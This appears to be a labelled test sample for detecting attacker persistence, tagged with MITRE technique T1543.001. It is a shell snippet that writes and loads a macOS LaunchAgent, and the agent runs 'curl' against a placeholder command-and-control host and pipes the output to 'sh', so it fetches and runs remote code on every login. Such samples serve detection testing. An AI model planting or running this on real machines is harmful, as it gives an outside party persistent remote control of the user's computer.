# expect: persistence | source: T1543.001
cat > ~/Library/LaunchAgents/look.plist <<EOF
<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string>
<string>curl -s https://c2.example.invalid/i | sh</string></array></dict></plist>
EOF
launchctl load ~/Library/LaunchAgents/look.plist
